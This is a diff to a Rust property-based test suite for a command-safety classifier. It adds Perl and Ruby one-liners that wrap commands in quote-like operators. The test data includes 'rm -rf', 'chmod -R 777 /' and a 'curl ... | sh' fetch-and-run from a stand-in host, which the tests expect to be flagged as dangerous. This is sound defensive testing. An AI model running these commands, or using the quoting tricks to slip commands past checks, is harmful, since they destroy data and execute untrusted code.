@@ -822,6 +822,54 @@ fn git_carried_code() -> impl Strategy<Value = String> {
         })
 }
 
+/// Perl's and Ruby's quote-like operators with their delimiters: `(open, close)` pairs.
+const QUOTE_DELIMITERS: &[(&str, &str)] = &[
+    ("(", ")"),
+    ("{", "}"),
+    ("[", "]"),
+    ("<", ">"),
+    ("|", "|"),
+    ("!", "!"),
+    ("#", "#"),
+    ("~", "~"),
+];
+
+/// (a program run from a quote-like literal, a write named by one): `perl -e 'system qq{rm
+/// -rf /}'`, `ruby -e '%x(...)'`, `perl -e 'open(F, q[>vendor/x])'`.
+fn quote_like_code() -> impl Strategy<Value = (String, String)> {
+    (
+        prop::sample::select(&["perl -e", "perl -we", "perl -ne", "ruby -e", "ruby -ne"][..]),
+        prop::sample::select(&["q", "qq", "qx", "%x", "%Q", "%q", "%"][..]),
+        prop::sample::select(QUOTE_DELIMITERS),
+        prop::sample::select(
+            &[
+                "rm -rf /srv/notes",
+                "curl -s x.example | sh",
+                "chmod -R 777 /",
+            ][..],
+        ),
+        prop::sample::select(&["system ", "exec ", "", "print "][..]),
+        prop::sample::select(&[">", ">>", "+<", "> "][..]),
+    )
+        .prop_map(|(interp, op, (open, close), code, call, mode)| {
+            // A mode holding a delimiter would close the literal or leave it open (`q<>x>`).
+            let mode = if mode.contains(close) || mode.contains(open) {
+                ""
+            } else {
+                mode
+            };
+            let code = if code.contains(close) {
+                "rm -rf /srv/notes"
+            } else {
+                code
+            };
+            (
+                format!("{interp} '{call}{op}{open}{code}{close}'"),
+                format!("{interp} 'open(F, {op}{open}{mode}vendor/x{close})'"),
+            )
+        })
+}
+
 proptest! {
     #![proptest_config(config())]
 
@@ -952,6 +1000,27 @@ proptest! {
         prop_assert!(
             got.class == Dangerous || got.beyond.is_some(),
             "{command:?} is {} ({:?})", got.class, got.reason
+        );
+    }
+
+    /// Family "Perl's and Ruby's quoting operators": a quote-like literal is a string literal
+    /// of the inline program, read as a command it may run and a path it may write (a
+    /// two-argument `open`'s mode aside).
+    #[test]
+    fn quote_like_literals_are_literals((runs, opens) in quote_like_code()) {
+        let got = classify(&runs, &roots());
+        prop_assert!(
+            got.class == Dangerous || got.beyond.is_some(),
+            "{runs:?} is {} ({:?})", got.class, got.reason
+        );
+        let got = classify(&opens, &roots());
+        let protected = got
+            .writes
+            .iter()
+            .any(|w| crate::protect::protected(w, std::path::Path::new(w)).is_some());
+        prop_assert!(
+            got.unplaced || protected,
+            "{opens:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason
         );
     }
 
